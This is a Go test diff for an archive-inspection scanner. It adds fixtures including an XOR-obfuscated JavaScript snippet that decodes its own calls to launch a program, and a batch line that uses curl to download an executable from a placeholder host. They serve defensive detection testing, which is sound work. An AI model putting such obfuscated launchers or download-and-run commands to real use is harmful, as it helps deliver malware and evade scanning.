@@ -1,6 +1,7 @@
 package inspect
 
 import (
+	"slices"
 	"strings"
 	"testing"
 
@@ -64,6 +65,19 @@ func TestTextThatIsNoScript(t *testing.T) {
 	}
 }
 
+// sealedJS calls by words that a function of its own decodes.
+const sealedJS = `function d(s){var r="",i=0;for(;i<s.length;i+=2)r+=String.fromCharCode(parseInt(s.substr(i,2),16)^7);return r}` +
+	`var o=new this[d("46647376716275")](d("505464756e7773"));o[d("5572696b6f")](d("646e6b642e627f62"));var x=d("6f7373777a3d2828")`
+
+// below puts entries in a folder.
+func below(list []fixture.ZIPEntry) []fixture.ZIPEntry {
+	list = slices.Clone(list)
+	for i := range list {
+		list[i].Name = "files/" + list[i].Name
+	}
+	return list
+}
+
 func TestSourcesInArchives(t *testing.T) {
 	app := entry("web/app.js", []byte("console.log(1)\n"))
 	tree := []fixture.ZIPEntry{entry("Makefile", []byte("all:\n")), entry("src/a.c", []byte("int a;\n")), entry("README.md", []byte("# a\n"))}
@@ -78,6 +92,13 @@ func TestSourcesInArchives(t *testing.T) {
 		{"a tree with one that starts programs", append(tree, app, entry("run.vbs", []byte(vbs))), []string{"script.file run.vbs", "script.suspicious run.vbs"}},
 		{"a tree with one of another sort", append(tree, entry("open.hta", []byte(hta))), []string{"script.file open.hta"}},
 		{"a tree with an encoded one", append(tree, entry("a.js", []byte(encoded))), []string{"script.file a.js"}},
+		{"a saved page", []fixture.ZIPEntry{entry("a.html", []byte("<html>")), entry("a_files/a.js", []byte("f(1)"))}, nil},
+		{"a folder without its page", []fixture.ZIPEntry{entry("b.html", []byte("<html>")), entry("a_files/a.js", []byte("f(1)"))}, []string{"script.file a_files/a.js"}},
+		{"before a tree, fetching", append(below(tree), entry("open.bat", []byte("curl -o a.exe http://example.test/a"))), []string{"script.file open.bat", "script.suspicious open.bat"}},
+		{"before a tree, doing nothing", append(below(tree), entry("open.bat", []byte("cl a.c"))), nil},
+		{"in a tree, fetching", append(tree, entry("open.bat", []byte("curl -o a.exe http://example.test/a"))), nil},
+		{"a tree with one that decodes its words", append(tree, entry("a.js", []byte(sealedJS))), []string{"script.file a.js", "script.suspicious a.js"}},
+		{"a tree with an alphabet", append(tree, entry("md5.js", []byte(`var hex="0123456789abcdef";function f(s){return hex.charAt(s.charCodeAt(0)&15)}`))), nil},
 		{"locked sources", []fixture.ZIPEntry{{Name: "a.c", Data: []byte("x"), Password: "p"}, {Name: "b.c", Data: []byte("x"), Password: "p"}, {Name: "c.c", Data: []byte("x"), Password: "p"}, app},
 			[]string{"zip.encrypted"}},
 	} {
